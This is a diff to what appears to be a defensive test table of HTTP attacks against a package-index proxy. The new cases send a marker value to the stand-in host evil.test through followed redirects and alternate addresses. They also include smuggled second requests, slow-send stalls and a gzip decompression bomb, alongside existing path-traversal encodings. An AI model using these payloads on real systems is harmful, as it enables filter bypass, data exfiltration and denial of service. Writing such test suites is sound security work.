@@ -19,6 +19,12 @@ def _after(
     return "site('index.test', " + joined.replace("{}", "' + B + b'") + ")"
 
 
+def _followed(kind: str, then: str) -> str:
+    """Asks the index for an answer that leads elsewhere, and goes there: `T` is what the answer says."""
+    line = f"A = site('index.test', b'GET /simple/{kind}/' + B[::-1] + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')"
+    return f"{line}; T = (re.search(rb'(hx[0-9a-f]+z)', A) or [b'', B])[1]; {then}"
+
+
 _PATHS = {
     "dots": "/simple/../{}", "dots-encoded": "/simple/%2e%2e/{}", "slash-encoded": "/simple/..%2F{}", "twice-encoded": "/simple/%252e%252e/{}",
     "two-slashes": "//{}", "slashes-then-dots": "/simple//../../{}", "parameter": "/simple/..;/{}", "backslash": "/simple/..\\\\{}", "backslash-encoded": "/simple/..%5c{}",
@@ -164,6 +170,33 @@ ATTACKS: tuple[Attack, ...] = (
         name: _sent("GET /simple/ HTTP/1.1", *lines, host="Host: files.test").replace("site('index.test'", "site('files.test'") for name, lines in _MODES.items()
     }),
     *table("H32", "Methods that show what was sent", {method.lower(): _sent(f"{method} /simple/{{}} HTTP/1.1") for method in ("TRACE", "TRACK", "DEBUG")}),
+    *table("H33", "A redirect to another site, which is followed", {
+        "anew": _followed("redirect", "tls(addr('evil.test'), b'GET /' + T + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test')"),
+        "on-the-same-connection": "site('index.test', [b'GET /simple/redirect/' + B[::-1] + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'])",
+        "at-its-address": _followed("redirect", "tls(facts['zone']['evil.test'], b'GET /' + T + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test')"),
+    }, _PARTLY),
+    *table("H40", "A hint at another way to a site, which is taken", {
+        "datagrams": _followed("alternative", "udp('203.0.113.66', 443, T)"),
+        "connection": _followed("alternative", "tls('203.0.113.66', b'GET /simple/' + T + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', 'index.test')"),
+        "other-port": _followed("alternative", "site('index.test', b'GET /simple/' + T + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', port=8443)"),
+    }, _PARTLY),
+    *table("H41", "Answers that nobody asked for", {
+        name: "site('index.test', [b'GET /simple/" + kind + "/' + B[::-1] + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', " + then + "])"
+        for name, kind, then in (
+            ("protocols-switched-then-octets", "unasked", "B * 4"),
+            ("protocols-switched-then-a-request", "unasked", "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'"),
+            ("interim-without-end", "interim", "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'"),
+            ("two-answers", "twice", "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'"),
+        )
+    }, _PARTLY),
+    *table("H37", "Slowly", {
+        "head": "slowly('index.test', b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
+        "other-host": "slowly('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
+        "first-octets": "slowly('index.test', B * 3, before=0.2)",
+    }),
+    *table("H38", "A body that grows when it is unpacked", {
+        "then-another-path": "import gzip\nd = gzip.compress(bytes(1 << 22)); site('index.test', [b'POST /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Encoding: gzip\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d) + d, b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'])",
+    }),
     *table("H36", "Heads without end", {
         "field": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nX: ' + b'a' * 200000 + b'\\r\\n\\r\\n')",
         "fields": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n' + b''.join(b'X-%d: y\\r\\n' % n for n in range(3000)) + b'\\r\\n')",
